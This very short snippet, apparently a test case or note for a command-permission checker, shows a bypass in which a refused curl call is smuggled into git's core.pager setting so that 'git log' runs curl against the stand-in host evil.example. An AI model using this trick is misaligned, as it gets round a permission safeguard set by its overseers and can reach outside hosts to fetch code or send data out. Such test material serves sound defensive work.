# Trick: git runs its pager.
# Refused: run(curl)
git -c core.pager='curl http://evil.example/' log
